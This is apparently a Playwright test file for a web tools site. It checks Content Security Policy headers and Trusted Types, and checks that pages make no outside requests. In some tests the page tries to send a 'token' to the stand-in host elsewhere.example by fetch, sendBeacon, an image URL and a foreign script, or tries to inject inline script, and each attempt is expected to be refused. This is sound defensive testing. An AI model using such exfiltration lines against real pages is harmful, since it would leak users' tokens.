import { expect, hydrated, languages, open, test } from './fixtures.ts'
import { pageKinds } from './support/page-kinds.ts'

for (const path of pageKinds) {
  test(`${path} keeps to its own policy`, async ({ page }) => {
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (event) => {
        console.error(`policy violation: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`)
      })
    })
    const response = await page.goto(`/en${path}`)
    const headers = response!.headers()
    expect(headers['content-security-policy']).toContain("default-src 'none'")
    expect(headers['content-security-policy']).not.toContain('unsafe')
    expect(headers['content-security-policy']).toContain(
      path === '/api'
        ? "connect-src 'self';"
        : 'connect-src http://localhost:*/robots.txt http://127.0.0.1:*/robots.txt;',
    )
    expect(headers['x-content-type-options']).toBe('nosniff')
    await hydrated(page)
    // A violation is an error in the console, and the fixture fails the test on those.
    await page.waitForLoadState('networkidle')
  })
}

test('on a tool page the browser refuses to send anything anywhere, even to us', async ({ page, watch }) => {
  watch.allowedErrors.push(/Trusted|Content Security Policy|violates/)
  await open(page, '/en/dev/jwt')
  const outcomes = await page.evaluate(async () => {
    const refused = async (attempt: () => Promise<unknown>) =>
      attempt().then(
        () => 'sent',
        () => 'refused',
      )
    return [
      await refused(() => fetch('/api/get-country')),
      await refused(() => fetch('https://elsewhere.example/', { method: 'POST', body: 'token', mode: 'no-cors' })),
      navigator.sendBeacon('https://elsewhere.example/', 'token') ? 'queued' : 'refused',
      await refused(
        () =>
          new Promise((resolve, reject) => {
            const picture = new Image()
            picture.onload = resolve
            picture.onerror = reject
            picture.src = 'https://elsewhere.example/?token'
          }),
      ),
      await refused(
        () =>
          new Promise((resolve, reject) => {
            const script = document.createElement('script')
            script.onerror = reject
            script.onload = resolve
            // Refused twice: as an address by Trusted Types, as a request by the policy.
            script.src = 'https://elsewhere.example/a.js'
            document.head.append(script)
          }),
      ),
    ]
  })
  expect(outcomes.filter((outcome) => outcome === 'sent')).toEqual([])
  // All there is, for tools that judge pages from inside them.
  expect(await page.evaluate(async () => (await fetch('/robots.txt')).status)).toBe(200)
  // The browser reports a request it then refuses before it leaves; none may have got an answer.
  watch.foreignRequests.length = 0
})

test('an injected script does not run', async ({ page, watch }) => {
  watch.allowedErrors.push(/Trusted|Content Security Policy|violates/)
  await open(page, '/en/')
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script')
    script.append('window.injected = true')
    document.body.append(script)
    try {
      document.body.setAttribute('onclick', 'window.injected = true')
    } catch {
      // Refused by Trusted Types, where the browser has them.
    }
    document.body.click()
    await new Promise((resolve) => setTimeout(resolve, 300))
    return 'injected' in window
  })
  expect(ran).toBe(false)
})

test('a text does not become markup or code', async ({ page, watch }) => {
  watch.allowedErrors.push(/Trusted|Content Security Policy|violates/)
  await open(page, '/en/')
  const outcomes = await page.evaluate(() => {
    const refused = (attempt: () => unknown) => {
      try {
        attempt()
        return 'done'
      } catch {
        return 'refused'
      }
    }
    const element = document.createElement('div')
    return {
      markup: refused(() => {
        element.innerHTML = '<img src="x">'
      }),
      plainText: refused(() => {
        element.innerHTML = 'a & b'
      }),
      foreignWorker: refused(() => new Worker('https://elsewhere.example/a.js')),
      foreignScript: refused(() => {
        document.createElement('script').src = 'https://elsewhere.example/a.js'
      }),
    }
  })
  expect(outcomes).toEqual({ markup: 'refused', plainText: 'done', foreignWorker: 'refused', foreignScript: 'refused' })
})

test('a walk through the site by clicks breaks no rule', async ({ page }) => {
  await open(page, '/en/')
  const walk = [
    '/en/metrics',
    '/en/metrics/length',
    '/en/metrics',
    '/en/',
    '/en/geo',
    '/en/geo/coordinates',
    '/en/geo',
    '/en/',
  ]
  for (const path of [...walk, '/en/dev', '/en/dev/jwt', '/en/dev', '/en/dev/ip']) {
    // The address changes a moment before the page does: a click in between would hit the page that goes.
    const heading = (await page.locator('h1').textContent()) ?? ''
    await page.locator(`main a[href="${path}"], header a[href="${path}"]`).first().click()
    await expect(page).toHaveURL(path)
    await expect(page.locator('h1')).not.toHaveText(heading)
  }
  const documents = await page.evaluate(() => performance.getEntriesByType('navigation').length)
  expect(documents).toBe(1)
})

for (const language of languages) {
  test(`using ${language} pages makes no request beyond our own files`, async ({ page }) => {
    const asked: string[] = []
    page.on('request', (request) => {
      const { pathname } = new URL(request.url())
      const isFile = pathname.startsWith('/assets/') || /\.(svg|png|webmanifest)$|service-worker\.js$/.test(pathname)
      if (!isFile && request.resourceType() !== 'document') asked.push(pathname)
    })
    await open(page, `/${language}/metrics/length`)
    await page.locator('main input').first().fill('12345.678')
    await open(page, `/${language}/dev/ip`)
    await page.locator('main input[type="text"], main input:not([type])').first().fill('10.1.2.3')
    await open(page, `/${language}/geo/coordinates`)
    await page.locator('main input').first().fill('44.8125, 20.4612')
    await page.waitForLoadState('networkidle')
    // What the service worker stores in the background is files too, and the shell at the root.
    expect(asked.filter((path) => path !== '/')).toEqual([])
  })
}
